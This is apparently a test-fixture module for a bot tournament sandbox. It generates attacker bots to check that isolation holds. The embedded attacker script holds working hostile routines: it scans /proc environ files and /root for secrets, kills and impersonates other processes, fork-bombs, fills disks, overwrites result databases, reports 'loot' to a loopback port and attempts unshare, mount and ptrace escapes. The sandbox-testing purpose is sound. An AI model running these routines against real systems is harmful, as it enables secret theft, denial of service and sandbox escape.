"""A league in which some entrants attack: folders with bots, and what they would take.

Each attacker knows every path and number that it could wish for: nothing is hidden but by walls.
"""

from __future__ import annotations

import json
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any, Final

HONEST: Final = """
from lath.bots.sdk import run

run(lambda position, turn: turn.chance.choice(position.legal_moves()), name="Honest")
"""

ATTACKER: Final = '''
import ctypes, glob, json, os, resource, signal, socket, subprocess, sys, time
from lath.bots.sdk import run

GOAL = json.loads("""GOAL""")
LOOT = []


def secrets():
    """Read what is another's: files, environments, memory; tell it in the bot's own greeting."""
    for path in [*GOAL["secrets"], *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/root/*")]:
        try:
            with open(path, "rb") as file:
                if GOAL["secret"].encode() in file.read(1 << 20):
                    LOOT.append(path)
        except OSError:
            pass


def league():
    """Find the processes of this league, and no others of the machine."""
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                with open(f"/proc/{name}/cmdline", "rb") as file:
                    if GOAL["folder"].encode() in file.read():
                        yield int(name)
            except OSError:
                pass


def others():
    """Stop and kill them, and one whose number is known."""
    for process in (*league(), GOAL["victim"]):
        for which in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(process, which)
            except OSError:
                pass


def answers():
    """Resign in everybody's name, by their pipes."""
    for process in league():
        try:
            with open(f"/proc/{process}/fd/1", "wb", buffering=0) as file:
                os.set_blocking(file.fileno(), False)
                file.write(b"move resign\\n")
        except OSError:
            pass


def forks():
    """Have as many processes as there may be."""
    children = []
    try:
        for _ in range(2000):
            child = os.fork()
            if not child:
                time.sleep(600)
                os._exit(0)
            children.append(child)
    except OSError:
        pass
    LOOT.extend(["processes"] * (len(children) >= 2000))
    for child in children:
        os.kill(child, signal.SIGKILL)


def disk():
    """Fill whatever can be written, and leave it."""
    for place in ("/tmp", "/dev/shm", os.environ["HOME"], *GOAL["places"]):
        for number in range(4):
            try:
                with open(f"{place}/LEFT-{number}", "wb") as file:
                    for _ in range(100):
                        file.write(bytes(1 << 20))
            except OSError:
                pass


def memory():
    """Have more memory than is allowed."""
    try:
        LOOT.extend(["memory"] * (len(bytearray(1 << 31)) > 0))
    except MemoryError:
        pass


def network():
    """Tell somebody who listens."""
    for address in (("127.0.0.1", GOAL["port"]),):
        try:
            socket.create_connection(address, 0.2).send(b"loot")
        except OSError:
            pass


def daemon():
    """Leave a process that outlives everything."""
    if not os.fork():
        os.setsid()
        if not os.fork():
            words = ["sh", "-c", "sleep 600; : " + GOAL["mark"]]
            os.execve("/bin/sh", words, {})
        os._exit(0)


def results():
    """Rewrite what is stored, wherever it is."""
    for path in GOAL["places"]:
        for name in ("tournament.db", "games.lath", "tournament.toml", "FORGED"):
            try:
                with open(f"{path}/{name}", "r+b" if name != "FORGED" else "wb") as file:
                    file.write(b"forged")
            except OSError:
                pass


def walls():
    """Take the wall down."""
    libc = ctypes.CDLL(None, use_errno=True)
    LOOT.extend(["users"] * (libc.unshare(0x10000000) == 0))
    LOOT.extend(["mount"] * (libc.mount(b"/", b"/mnt", None, 4096, 0) == 0))
    if libc.ptrace(16, os.getppid(), 0, 0) == 0:
        LOOT.append("traced")
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20))
        LOOT.append("limits")
    except (OSError, ValueError):
        pass


for name in GOAL["attacks"]:
    try:
        globals()[name]()
    except Exception as error:
        print(f"{name}: {error!r}", file=sys.stderr)
run(
    lambda position, turn: turn.chance.choice(position.legal_moves()),
    name="Attacker",
    author=" ".join(["LOOT", *LOOT]) if LOOT else "nobody",
)
'''

ATTACKS: Final = (
    *("secrets", "others", "answers", "forks", "disk"),
    *("memory", "network", "daemon", "results", "walls"),
)


class League:
    """The folder of a league, with the bots that are entered."""

    def __init__(self, folder: Path, listener: socket.socket, *, victim: int, mark: str) -> None:
        self.folder = folder
        self.out = folder / "out"
        self.mark = mark
        self.secret = f"{mark}-secret"
        (folder / "secret").write_text(self.secret)
        (folder / "secret").chmod(0o644)
        self._goal: dict[str, Any] = {
            "secret": self.secret,
            "secrets": [str(folder / "secret"), str(folder / "league.toml")],
            "places": [str(self.out), str(folder), str(folder / "inbox" / "honest-0")],
            "port": listener.getsockname()[1],
            "victim": victim,
            "folder": str(folder),
            "mark": mark,
        }
        self.bots: list[dict[str, Any]] = []

    def enter(self, name: str, attacks: tuple[str, ...] = ()) -> None:
        """Put a bot into the inbox; of attackers each knows where all else is."""
        home = self.folder / "inbox" / name
        home.mkdir(parents=True)
        goal = json.dumps({**self._goal, "attacks": attacks})
        code = ATTACKER.replace('"""GOAL"""', f"'''{goal}'''")
        (home / "bot.py").write_text(code if attacks else HONEST)
        (home / "note").write_text(self.secret)
        if not attacks:
            self._goal["secrets"] += [str(home / "note")]
        self.bots.append(
            {
                "name": name,
                "cwd": f"inbox/{name}",
                "command": ["python", "bot.py"],
                "memory": "512MiB",
                "env": {"KEY": "its own"},
            }
        )


@contextmanager
def living() -> Iterator[subprocess.Popen[bytes]]:
    """Give a process that nobody should end."""
    with subprocess.Popen(["sleep", "600"]) as process:
        try:
            yield process
        finally:
            process.kill()


@contextmanager
def listening() -> Iterator[tuple[socket.socket, list[object]]]:
    """Give a port of the loopback and who has called there."""
    called: list[object] = []
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def accept() -> None:
            with suppress(OSError):
                while True:
                    caller, address = listener.accept()
                    called.append(address)
                    caller.close()

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield listener, called
        listener.shutdown(socket.SHUT_RDWR)
        thread.join()
